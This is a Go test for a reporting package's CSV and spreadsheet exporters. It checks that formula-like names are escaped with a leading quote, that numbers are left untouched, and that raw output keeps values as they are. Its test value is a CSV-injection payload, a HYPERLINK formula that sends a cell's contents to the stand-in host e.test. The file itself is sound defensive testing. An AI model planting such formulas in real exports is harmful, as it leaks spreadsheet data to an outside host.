package report

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"headroom/internal/render"
)

// A name that is a formula is none in any file that a spreadsheet reads, unless somebody wants it as it is. The numbers
// stay numbers.
func TestNoSheetHasAFormula(t *testing.T) {
	plainNumber := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`)
	const evil = `=HYPERLINK("http://e.test/?"&A1)`
	runs := fixtures(t)
	for i := range runs {
		runs[i].Label, runs[i].Suite = evil, evil
		for j := range runs[i].Cells {
			runs[i].Cells[j].Job = evil
			runs[i].Cells[j].Params = map[string]string{"bs": evil, evil: "1"}
		}
	}
	compared := comparison(t)
	compared.Base.Name = evil
	for i := range compared.Cells {
		compared.Cells[i].Job, compared.Cells[i].Why = evil, evil
	}
	swept := bySuite(10)
	swept.Factor = evil
	for i := range swept.Cells {
		swept.Cells[i].Job = evil
	}
	ablated := hardened(twoCells(), costly)
	for i := range ablated.Settings {
		ablated.Settings[i].Factor, ablated.Settings[i].Cost = evil, evil
	}
	searched := bisectionDocument()
	for i := range searched.Candidates {
		searched.Candidates[i].Factor = evil
	}
	for name, write := range map[string]func(b *bytes.Buffer, o Options) error{
		"csv":   func(b *bytes.Buffer, o Options) error { return formatNamed(t, "csv").Write(b, runs, o) },
		"sheet": func(b *bytes.Buffer, o Options) error { return formatNamed(t, "sheet").Write(b, runs, o) },
		"compare": func(b *bytes.Buffer, o Options) error {
			return render.CSV(b, CompareDocument(compared, o), o.Options)
		},
		"sweep": func(b *bytes.Buffer, o Options) error { return render.CSV(b, SweepDocument(swept, o), o.Options) },
		"ablation": func(b *bytes.Buffer, o Options) error {
			return render.CSV(b, AblationDocument(ablated, o), o.Options)
		},
		"bisection": func(b *bytes.Buffer, o Options) error {
			return render.CSV(b, BisectionDocument(searched, o), o.Options)
		},
	} {
		read := func(o Options) (cells []string) {
			var b bytes.Buffer
			if err := write(&b, o); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range records {
				cells = append(cells, r...)
			}
			return cells
		}
		plain, raw := read(Options{}), read(Options{Options: render.Options{RawCells: true}})
		found := 0
		for i, cell := range plain {
			if strings.HasPrefix(raw[i], evil) {
				found++
			}
			if strings.HasPrefix(cell, "=") {
				t.Errorf("%s: the cell %q", name, cell)
			}
			if bare, marked := strings.CutPrefix(cell, "'"); cell != raw[i] && (!marked || bare != raw[i]) ||
				marked && plainNumber.MatchString(bare) {
				t.Errorf("%s: %q became %q", name, raw[i], cell)
			}
		}
		if found == 0 {
			t.Errorf("%s: no cell has the name when it is asked for as it is", name)
		}
	}
}
